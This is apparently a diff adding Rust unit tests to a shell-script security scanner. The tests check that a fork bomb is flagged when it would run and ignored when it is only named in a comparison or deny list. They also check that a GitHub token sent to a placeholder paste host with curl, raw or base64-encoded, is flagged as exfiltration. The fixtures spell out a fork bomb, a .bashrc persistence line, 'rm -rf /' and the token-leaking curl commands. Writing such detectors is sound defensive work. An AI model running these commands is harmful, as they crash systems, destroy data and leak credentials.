@@ -127,6 +127,63 @@ mod tests {
     }
 
     #[test]
+    fn a_fork_bomb_compared_as_a_string_is_named_not_run() {
+        for text in [
+            "if [[ \"$command\" == *\":(){ :|:& };:\"* ]]; then exit 2; fi\n",
+            "DANGER=(\n  \"rm -rf /\"\n  \":(){ :|:& };:\"  # fork bomb\n)\n",
+        ] {
+            let found = rules("s.sh", text);
+            assert!(
+                !found
+                    .iter()
+                    .any(|(c, s)| *c == "SK751" && *s >= Severity::Medium),
+                "{text}: {found:?}"
+            );
+        }
+        for text in [
+            ":(){ :|:& };:\n",
+            "bash -c ':(){ :|:& };:'\n",
+            "echo ':(){ :|:& };:' >> ~/.bashrc\n",
+        ] {
+            let found = rules("s.sh", text);
+            assert!(
+                found
+                    .iter()
+                    .any(|(c, s)| *c == "SK751" && *s >= Severity::High),
+                "{text}: {found:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn a_response_is_not_the_secret_the_request_carried() {
+        // The id an API answers with, used in the next URL: no secret moves
+        // there.
+        let text = "T=$(gh auth token)\nID=$(curl -fsS -X POST https://api.github.com/gists -H \"Authorization: Bearer ${T}\" | jq -r .id)\ncurl -fsI \"https://gist.githubusercontent.com/me/${ID}/raw\"\n";
+        let found = rules("s.sh", text);
+        assert!(
+            !found
+                .iter()
+                .any(|(c, s)| *c == "SK610" && *s == Severity::Critical),
+            "{found:?}"
+        );
+        // The secret itself, or what a command other than a fetcher made
+        // of it, still moves.
+        for text in [
+            "T=$(gh auth token)\nX=$(echo \"$T\" | base64)\ncurl -fsI \"https://paste.example.net/${X}\"\n",
+            "T=$(gh auth token)\ncurl -d \"$T\" https://paste.example.net/in\n",
+        ] {
+            let found = rules("s.sh", text);
+            assert!(
+                found
+                    .iter()
+                    .any(|(c, s)| *c == "SK610" && *s >= Severity::High),
+                "{text}: {found:?}"
+            );
+        }
+    }
+
+    #[test]
     fn a_fetcher_with_nothing_to_fetch_names_the_pattern() {
         for (path, text) in [
             (
